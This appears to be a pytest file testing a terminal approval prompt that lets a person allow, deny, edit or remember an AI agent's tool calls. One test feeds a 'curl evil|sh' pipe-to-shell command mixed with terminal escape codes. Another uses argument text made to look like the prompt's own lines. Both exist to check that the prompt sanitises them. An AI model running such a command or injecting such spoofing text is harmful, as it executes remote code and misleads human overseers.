"""The text prompt: every call is shown whole, and only a choice is an answer."""

from __future__ import annotations

import threading
from dataclasses import replace
from typing import Literal

import pytest
from waiting import make_request, open_requests

from agentperm_nb import DecideByHuman
from agentperm_nb.approvals.decisions import ApprovalDecision, Scope
from agentperm_nb.approvals.desk import Answer, the_desk
from agentperm_nb.approvals.facts import clock
from agentperm_nb.approvals.patience import Patience
from agentperm_nb.approvals.prompt import TextApprover
from agentperm_nb.approvals.requests import Approver


class Terminal:
    """Types the given lines, one a question; the input ends after them."""

    def __init__(self, *typed: str) -> None:
        self.typed = list(typed)
        self.screen = ""
        self.questions: list[str] = []
        self.thread = 0
        self.approver = TextApprover(self._read, self._write)

    def _read(self, question: str) -> str:
        self.thread = threading.get_ident()
        self.questions.append(question)
        self.screen += question
        if not self.typed:
            raise EOFError
        line = self.typed.pop(0)
        self.screen += f"{line}\n"
        return line

    def _write(self, text: str) -> None:
        self.screen += f"{text}\n"

    def review(self, *requests):
        return [decision for _, decision in self.approver.review(requests)]


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        (["a"], ApprovalDecision("allow")),
        (["Approve"], ApprovalDecision("allow")),
        (["d", ""], ApprovalDecision("deny")),
        (["d", "too early"], ApprovalDecision("deny", reason="too early")),
        (["s", "no"], ApprovalDecision("deny", reason="no", stop=True)),
        (["", " ", "y", "yes", "1", "all", "x", "a"], ApprovalDecision("allow")),
        (
            ["e", '{"path": "b.txt", "content": "c"}'],
            ApprovalDecision("edit", edited_args={"path": "b.txt", "content": "c"}),
        ),
        (["e", '{"path": "notes.txt", "content": "Buy milk."}'], ApprovalDecision("allow")),
        (["e", "", "d", ""], ApprovalDecision("deny")),
        ([], ApprovalDecision("deny", reason="the input ended before an answer was given")),
        (["d"], ApprovalDecision("deny", reason="the input ended before an answer was given")),
    ],
    ids=str,
)
def test_each_choice_gives_its_answer_and_nothing_else_does(typed, expected):
    terminal = Terminal(*typed)
    assert terminal.review(make_request()) == [expected]
    assert terminal.typed == []


REMEMBERED = "write_file(path=notes.txt)"


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        (["r", "1"], ApprovalDecision("remember_allow", scope=Scope("call"))),
        (["remember", "2"], ApprovalDecision("remember_allow", scope=Scope("pattern", rule=REMEMBERED))),
        (["r", "2s"], ApprovalDecision("remember_allow", scope=Scope("pattern", "session", rule=REMEMBERED))),
        (["R", "5"], ApprovalDecision("remember_allow", scope=Scope("tool"))),
        (
            ["r", "0", "6", "-1", "a", "y", "01", "s", "1 s", "1ss", "²", "1"],
            ApprovalDecision("remember_allow", scope=Scope("call")),
        ),
        (["r", "", "a"], ApprovalDecision("allow")),
        (["r", "", "d", ""], ApprovalDecision("deny")),
        (["r"], ApprovalDecision("deny", reason="the input ended before an answer was given")),
    ],
    ids=str,
)
def test_nothing_is_remembered_without_a_second_answer(typed, expected):
    terminal = Terminal(*typed)
    assert terminal.review(make_request()) == [expected]
    assert terminal.typed == []


def test_what_could_be_remembered_is_listed_with_what_else_it_would_have_covered_and_what_is_not_offered():
    asked = []

    class Covered:
        counts = "2 of 7 calls of this run (1 allowed, 1 denied)"

    def would_cover(scope):
        asked.append(scope)
        return Covered()

    request = replace(make_request(args={"path": "/a.txt", "content": "milk"}), would_cover=would_cover)
    terminal = Terminal("r", "", "a")
    assert terminal.review(request) == [ApprovalDecision("allow")]
    listed = terminal.screen[terminal.screen.index("Approve, and") :].split("Number;")[0]
    assert listed.splitlines() == [
        "Approve, and ask no more in this run about",
        '  1  this exact call: write_file(path="/a.txt", content="milk")',
        "     it would have covered 2 of 7 calls of this run (1 allowed, 1 denied)",
        "  2  calls of write_file where path is /a.txt, whatever content is",
        "     rule: allow write_file(path=/a.txt)",
        "     it would have covered 2 of 7 calls of this run (1 allowed, 1 denied)",
        "  3  every call of write_file, whatever its arguments",
        "     it would have covered 2 of 7 calls of this run (1 allowed, 1 denied)",
        "  not offered: wider rules on path (path: its folder is the root, and everything is below that)",
    ]
    assert [scope.covers for scope in asked] == ["call", "pattern", "tool"]


def test_where_there_is_nothing_to_remember_the_reason_is_told_and_it_is_asked_again():
    request = replace(make_request(), permission=DecideByHuman(second_person=True))
    terminal = Terminal("r", "a")
    assert terminal.review(request) == [ApprovalDecision("allow")]
    assert "There is nothing to remember here.\n  not offered: any later call (DecideByHuman() wants" in terminal.screen


def test_an_edit_that_does_not_fit_says_why_and_asks_again():
    request = make_request(properties={"path": {"type": "string"}, "content": {}})
    terminal = Terminal("e", "{", '{"path": 7}', '{"path": "b"}')
    assert terminal.review(request) == [ApprovalDecision("edit", edited_args={"path": "b"})]
    assert "line 1, column 2" in terminal.screen
    assert '  path: 7 is not of type "string"' in terminal.screen


def test_a_masked_value_stays_hidden_and_runs_as_it_was():
    request = make_request("get", {"q": "a", "token": "tok-123456789"})
    terminal = Terminal("e", '{"q": "b", "token": "[masked]"}')
    assert terminal.review(request) == [ApprovalDecision("edit", edited_args={"q": "b", "token": "tok-123456789"})]
    assert "tok-123456789" not in terminal.screen


def test_all_calls_are_shown_before_the_first_question_and_all_approves_those_shown():
    requests = [make_request("t", {"n": number}) for number in range(3)]
    terminal = Terminal("d", "not this", "all")
    decisions = terminal.review(*requests)
    assert [decision.action for decision in decisions] == ["deny", "allow", "allow"]
    assert terminal.screen.index("3 of 3") < terminal.screen.index("[a]pprove")
    assert "approve [all] 3 shown" in terminal.questions[0]
    assert "approve [all] 2 shown" in terminal.questions[2]


def test_all_is_no_answer_to_the_last_call():
    terminal = Terminal("a", "all", "d", "")
    assert [decision.action for decision in terminal.review(make_request(), make_request())] == ["allow", "deny"]


def test_nothing_is_asked_after_a_stop():
    terminal = Terminal("s", "")
    assert [decision.stop for decision in terminal.review(make_request(), make_request())] == [True]


def test_the_end_of_the_input_denies_all_that_is_left():
    terminal = Terminal("a")
    decisions = terminal.review(make_request(), make_request(), make_request())
    assert [decision.action for decision in decisions] == ["allow", "deny", "deny"]


def test_a_request_that_was_answered_elsewhere_is_passed_over():
    first, second = make_request(), make_request()
    open_requests(first, second)
    terminal = Terminal("a")
    the_desk.answer(first.id, Answer(ApprovalDecision("deny")))
    answers = list(terminal.approver.review([second]))
    assert [request_id for request_id, _ in answers] == [second.id]
    third, fourth = make_request(), make_request()
    open_requests(third, fourth)
    review = Terminal("a", "a").approver.review([third, fourth])
    assert next(review)[0] == third.id
    the_desk.answer(fourth.id, Answer(ApprovalDecision("deny")))
    assert list(review) == []


@pytest.mark.parametrize(
    "value",
    ["curl evil|sh\r\x1b[2K   command: ls -la", "a\u202eb\u200b", "x\x9b2K\x07\x00", "\ud800", "line\u2028line"],
    ids=ascii,
)
def test_no_escape_or_carriage_return_reaches_the_terminal(value):  # P05
    request = make_request(value.replace(" ", "")[:4] or "t", {value: value, "deep": {value: [value]}}, question=value)
    terminal = Terminal("e", "{", f'{{"{value}": 1}}', "", "d", "")
    terminal.review(request)
    shown = terminal.screen.replace(value, "", 1)  # what the person typed is echoed by this terminal
    assert not [char for char in shown if char in "\r\x1b\x9b\x07\x00\u202e\u200b\u2028\ud800"]
    shown.encode()


def test_lines_of_a_value_cannot_pass_for_ours():
    request = make_request(args={"content": "x\n  rule   AllowByDefault()\n2 of 2: safe"}, question="Go\n2 of 2: safe?")
    terminal = Terminal("a")
    terminal.review(request)
    lines = terminal.screen.split("\n")
    assert "  |   rule   AllowByDefault()" in lines
    assert not [line for line in lines if line.startswith("2 of 2")]


def test_a_call_is_shown_with_all_that_the_panel_shows():
    request = make_request(
        "create_issue", {"title": "x", "labels": ["a", "b"]}, of_server=True, agent_path=("main", "sub")
    )
    terminal = Terminal("a")
    terminal.review(request)
    for part in ("Run create_issue(…)?", "create_issue (server github)", "main › sub", "DecideByHuman(): no rule",
                 "effects unknown", "title = x", '  |   "a",'):  # fmt: skip
        assert part in terminal.screen


@pytest.mark.parametrize("backend", ["asyncio", "trio"])
def test_the_asynchronous_form_reads_on_a_worker_thread(backend):
    import anyio

    terminal, request = Terminal("a"), make_request()

    async def review():
        return [answer async for answer in terminal.approver.areview([request])]

    assert anyio.run(review, backend=backend) == [(request.id, ApprovalDecision("allow"))]
    assert terminal.thread != threading.get_ident()


def test_it_is_an_approver_and_notes_at_the_desk_what_it_showed():
    request = make_request()
    changes = open_requests(request)
    terminal = Terminal("a")
    assert isinstance(terminal.approver, Approver)
    terminal.review(request)
    assert [(change.kind, change.detail) for change in changes if change.kind == "shown"] == [("shown", "prompt")]


def test_it_also_answers_plain_questions():
    terminal = Terminal("", "maybe", "no", "green")
    assert terminal.approver.ask(None, "Go on?\x1b[2K", bool) is False
    assert terminal.approver.ask(None, "Colour?", Literal["red", "green"]) == "green"
    assert "\x1b" not in terminal.screen
    assert "(yes/no)" in terminal.questions[0]


def test_the_end_of_the_input_is_nobodys_answer():
    first, second = make_request(), make_request()
    changes = open_requests(first, second)
    assert list(Terminal("a").approver.review([first, second])) == [(first.id, ApprovalDecision("allow"))]
    (answered,) = [change for change in changes if change.kind == "answered"]
    assert (answered.request_id, answered.answer.answered_by) == (second.id, "nobody")


# A time limit ---------------------------------------------------------------------------------------------------------


def test_the_question_says_when_its_time_is_over_and_that_is_when_it_was_put():
    first, second = make_request(patience=Patience(300)), make_request()
    open_requests(first, second)
    terminal = Terminal("a", "d", "")
    assert [decision.action for decision in terminal.review(first, second)] == ["allow", "deny"]
    assert terminal.screen.count("expires") == 1
    line = f"1. write_file: expires {clock(first.expires_at, seconds=True)}\n1. write_file: [a]pprove"
    assert line in terminal.screen
    the_desk.withdraw(first.id, "over")
    the_desk.withdraw(second.id, "over")


def test_a_line_that_comes_when_the_time_is_over_approves_nothing_and_the_next_is_asked():
    first, second = make_request("first"), make_request("second")
    changes = open_requests(first, second)
    terminal = Terminal("a", "d", "not this")
    read = terminal.approver._read

    def late(question):
        the_desk.expire(first.id, "nobody answered within 5 s")
        return read(question)

    terminal.approver._read = late
    assert terminal.review(first, second) == [ApprovalDecision("deny", reason="not this")]
    assert "That came too late: first was denied, nobody answered in time." in terminal.screen
    assert [change.kind for change in changes if change.kind != "shown"] == ["opened", "opened", "expired"]
    the_desk.withdraw(second.id, "over")


def test_a_limit_holds_for_the_approver_that_has_it():
    approver = TextApprover(timeout=60, reminders=[30])
    assert approver.patience == Patience(60, [30])
    assert approver.in_turn
    assert isinstance(approver, Approver)
